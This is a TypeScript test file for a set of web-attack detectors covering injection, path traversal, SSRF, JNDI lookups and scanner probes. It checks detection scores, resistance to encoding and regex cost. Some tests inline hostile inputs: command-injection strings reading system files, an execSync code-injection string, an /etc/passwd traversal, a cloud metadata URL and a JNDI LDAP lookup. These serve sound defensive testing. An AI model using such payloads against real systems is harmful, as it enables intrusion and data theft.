import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { marksOf } from '../../decode/form.ts';
import { createWork } from '../../work.ts';
import * as code from '../code-injection.cases.ts';
import { codeInjection } from '../code-injection.ts';
import * as serialised from '../deserialisation.cases.ts';
import { deserialisation } from '../deserialisation.ts';
import type { Detector } from '../detector.ts';
import * as inclusion from '../file-inclusion.cases.ts';
import { fileInclusion } from '../file-inclusion.ts';
import * as header from '../header-injection.cases.ts';
import { headerInjection } from '../header-injection.ts';
import * as lookup from '../jndi-lookup.cases.ts';
import { jndiLookup } from '../jndi-lookup.ts';
import * as mail from '../mail-injection.cases.ts';
import { mailInjection } from '../mail-injection.ts';
import * as path from '../path-traversal.cases.ts';
import { pathTraversal } from '../path-traversal.ts';
import * as probes from '../scanner.cases.ts';
import { scanner } from '../scanner.ts';
import * as request from '../server-side-request-forgery.cases.ts';
import { serverSideRequestForgery } from '../server-side-request-forgery.ts';
import * as shell from '../shell-injection.cases.ts';
import { shellInjection } from '../shell-injection.ts';
import * as template from '../template-injection.cases.ts';
import { templateInjection } from '../template-injection.ts';
import * as xml from '../xml-entity.cases.ts';
import { xmlEntity } from '../xml-entity.ts';
import { aForm, type FieldCase, scoreOf } from './a-form.cases.ts';
import { quotesOthers } from './best-shape.ts';

interface Subject {
  readonly detector: Detector;
  readonly attacks: readonly FieldCase[];
  readonly benign: readonly FieldCase[];
}

const SUBJECTS: readonly Subject[] = [
  { detector: shellInjection, ...shell },
  { detector: codeInjection, ...code },
  { detector: templateInjection, ...template },
  { detector: pathTraversal, ...path },
  { detector: fileInclusion, ...inclusion },
  { detector: serverSideRequestForgery, ...request },
  { detector: xmlEntity, ...xml },
  { detector: headerInjection, ...header },
  { detector: mailInjection, ...mail },
  { detector: jndiLookup, ...lookup },
  { detector: deserialisation, ...serialised },
  { detector: scanner, attacks: probes.attacks.map(asPath), benign: probes.benign.map(asPath) },
];
const DETECTORS = SUBJECTS.map(({ detector }) => detector);
const ALERT = 0.5;
const BLOCK = 0.9;

function asPath(given: FieldCase): FieldCase {
  return typeof given === 'string' ? { path: 'path', role: 'path', value: given } : given;
}

describe.each(SUBJECTS)('$detector.kind', ({ detector, attacks, benign }) => {
  it.each(attacks.map((attack) => [attack]))('reports %j', (attack) => {
    expect(scoreOf(detector, attack)).toBeGreaterThanOrEqual(ALERT);
  });

  it.each(benign.map((text) => [text]))('no detector reports %j', (text) => {
    expect(DETECTORS.filter((each) => scoreOf(each, text) >= ALERT).map(({ kind }) => kind)).toEqual([]);
  });

  it('never throws and points into the text', () => {
    const pieces = attacks.map((attack) => (typeof attack === 'string' ? attack : (attack.value ?? '')));
    const text = fc
      .array(fc.oneof(fc.constantFrom(...pieces), fc.string({ unit: 'binary' }), fc.constantFrom(...SIGNS)), {
        maxLength: 6,
      })
      .map((parts) => parts.join(''));
    fc.assert(
      fc.property(text, fc.constantFrom('body', 'path', 'query', 'log-line', 'object-key'), (value, role) => {
        const match = detector.mayMatch(value, marksOf(value))
          ? detector.detect(aForm({ value, role }), createWork())
          : undefined;
        if (match === undefined) return;
        expect(match.start).toBeGreaterThanOrEqual(0);
        expect(match.start).toBeLessThanOrEqual(match.end);
        expect(match.score).toBeGreaterThan(0);
        expect(match.score).toBeLessThanOrEqual(1);
      }),
    );
  });
});

const SIGNS = [
  ';',
  '|',
  '&&',
  '`',
  '$(',
  '${',
  '{{',
  '}}',
  '../',
  '\n',
  '\r\n',
  '://',
  '<!',
  '<?',
  '%',
  '\0',
];

describe('mutations', () => {
  const encoders: Readonly<Record<string, (text: string) => string>> = {
    'percent-encoding': (text) => [...text].map(percent).join(''),
    'double percent-encoding': (text) => [...text].map(percent).join('').replaceAll('%', '%25'),
    base64: (text) => Buffer.from(text).toString('base64'),
    'escapes of JSON': (text) => [...text].map((each) => `\\u${hex(each, 4)}`).join(''),
    'HTML references': (text) => [...text].map((each) => `&#x${hex(each, 2)};`).join(''),
  };
  const plain = SUBJECTS.filter(({ detector }) => detector !== scanner).flatMap(({ detector, attacks }) =>
    attacks.flatMap((attack) =>
      // Anything shorter than nine characters is too short for base64 that is told from words.
      typeof attack === 'string' && /^[ -~]{9,}$/.test(attack) ? [{ detector, attack }] : [],
    ),
  );

  it.each(Object.entries(encoders))('attacks are seen behind %s', (_name, encode) => {
    const missed = plain.filter(({ detector, attack }) => scoreOf(detector, encode(attack)) < ALERT);
    expect(missed.map(({ attack }) => attack)).toEqual([]);
  });

  it('attacks are seen behind many words of prose', () => {
    const prose = 'Please note that we moved to the new office and the old one is closed now. '.repeat(12);
    const missed = plain.filter(
      ({ detector, attack }) =>
        detector === shellInjection &&
        /^[;|&$]/.test(attack) &&
        scoreOf(detector, `${prose}${attack}`) < ALERT,
    );
    expect(missed.map(({ attack }) => attack)).toEqual([]);
  });

  it('attacks are seen after an innocent value', () => {
    const inside = plain.filter(
      ({ detector, attack }) => detector === shellInjection && /^[;|&`$]/.test(attack),
    );
    const missed = inside.filter(
      ({ detector, attack }) => scoreOf(detector, `photo-1.jpg ${attack}`) < ALERT,
    );
    expect(missed.map(({ attack }) => attack)).toEqual([]);
  });
});

function percent(character: string): string {
  return `%${hex(character, 2)}`;
}

function hex(character: string, digits: number): string {
  return character.charCodeAt(0).toString(16).padStart(digits, '0');
}

describe('cost', () => {
  it('no pattern repeats anything without a bound', () => {
    const used = patternsUsedBy(() => {
      for (const { attacks, benign } of SUBJECTS) {
        for (const given of [...attacks, ...benign]) {
          for (const { mayMatch, detect } of DETECTORS) {
            const form = aForm(given);
            mayMatch(form.text, form.marks);
            detect(form, createWork());
          }
        }
      }
    });
    expect(used.size).toBeGreaterThan(150);
    expect([...used].filter((source) => /[*+]|\{\d+,\}/.test(withoutClasses(source)))).toEqual([]);
  });
});

/** Sources of the patterns that are applied while something runs. */
function patternsUsedBy(run: () => void): ReadonlySet<string> {
  const used = new Set<string>();
  const { exec } = RegExp.prototype;
  RegExp.prototype.exec = function record(this: RegExp, text: string) {
    used.add(this.source);
    return exec.call(this, text);
  };
  try {
    run();
  } finally {
    RegExp.prototype.exec = exec;
  }
  return used;
}

/** A pattern without its escapes and character classes, in which signs stand for themselves. */
function withoutClasses(source: string): string {
  return source.replace(/\\./g, '').replace(/\[[^\]]*\]/g, '');
}

describe('quotesOthers()', () => {
  it.each([
    'Reads a file.\n\n```js\nconst a = 1;\n```',
    'Error: x\n    at handler (/var/task/index.js:84:15)',
    'First line of it\nsecond line of it all\nthird line of it all\nfourth line of it all\nand so on it goes',
  ])('documents: %j', (value) => {
    expect(quotesOthers(aForm({ value, role: 'log-line' }))).toBe(true);
  });

  it.each(['; cat /etc/hostname', 'one word', 'a\nb'])('values: %j', (value) => {
    expect(quotesOthers(aForm(value))).toBe(false);
  });
});

describe('scores', () => {
  it('probes never reach a block', () => {
    const scores = probes.attacks.map((attack) => scoreOf(scanner, asPath(attack)));
    expect(Math.max(...scores)).toBeLessThan(BLOCK);
  });

  it.each([
    [shellInjection, 'x; cat /var/task/index.js'],
    [codeInjection, "require('child_process').execSync('id')"],
    [pathTraversal, '../../../../etc/passwd'],
    [serverSideRequestForgery, 'http://169.254.169.254/latest/meta-data/'],
    [jndiLookup, '${jndi:ldap://198.51.100.7/a}'],
  ] as const)('certain grammar is enough for a block: %o %s', (detector, attack) => {
    expect(scoreOf(detector, attack)).toBeGreaterThanOrEqual(BLOCK);
  });
});
